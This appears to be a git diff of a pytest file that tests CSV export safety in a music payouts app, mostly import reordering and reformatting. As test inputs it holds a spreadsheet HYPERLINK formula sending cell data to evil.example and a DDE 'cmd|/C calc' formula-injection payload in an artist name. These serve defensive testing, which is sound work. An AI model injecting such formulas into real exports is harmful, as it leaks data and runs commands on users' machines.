@@ -8,15 +8,23 @@ from pathlib import Path
 
 import pytest
 
+from app.accounts.models import Role
+from app.analytics.services import rollups
 from app.core.csv_export import safe_cell, write_csv
 from app.core.extensions import db
 from app.payments.models import Payout, PayoutMethod, PayoutStatus
-from app.accounts.models import Role
-from app.analytics.services import rollups
 from app.payments.services import wallet
+from tests.factories import (
+    bearer,
+    enable_two_factor,
+    login,
+    make_artist,
+    make_release,
+    make_track,
+    make_user,
+    token_for,
+)
 from tests.payments.test_payouts import bank_artist, earn, period, run  # noqa: F401 (period: a fixture)
-from tests.factories import (bearer, enable_two_factor, login, make_artist, make_release, make_track, make_user,
-                             token_for)
 
 APP = Path(__file__).resolve().parents[2] / "app"
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -79,9 +87,19 @@ def test_track_titles_in_the_analytics_csv(client, app_ctx):
 def test_open_books_csv_with_an_artist_named_like_a_formula(client, app_ctx):
     artist = make_artist(name="@SUM(1+1)*cmd|' /C calc'!A0")
     now = datetime.now(timezone.utc)
-    db.session.add(Payout(artist_id=artist.id, period="2000-01", credits=8_000_000, currency="EUR",
-                          credit_price_cents=125, method=PayoutMethod.BANK, status=PayoutStatus.PAID,
-                          amount_cents=1000, paid_at=now))
+    db.session.add(
+        Payout(
+            artist_id=artist.id,
+            period="2000-01",
+            credits=8_000_000,
+            currency="EUR",
+            credit_price_cents=125,
+            method=PayoutMethod.BANK,
+            status=PayoutStatus.PAID,
+            amount_cents=1000,
+            paid_at=now,
+        )
+    )
     db.session.commit()
     text = client.get(f"/transparency/{now:%Y-%m}.csv").text
     payouts = [row for row in _rows(text) if row[0] == "payout"]
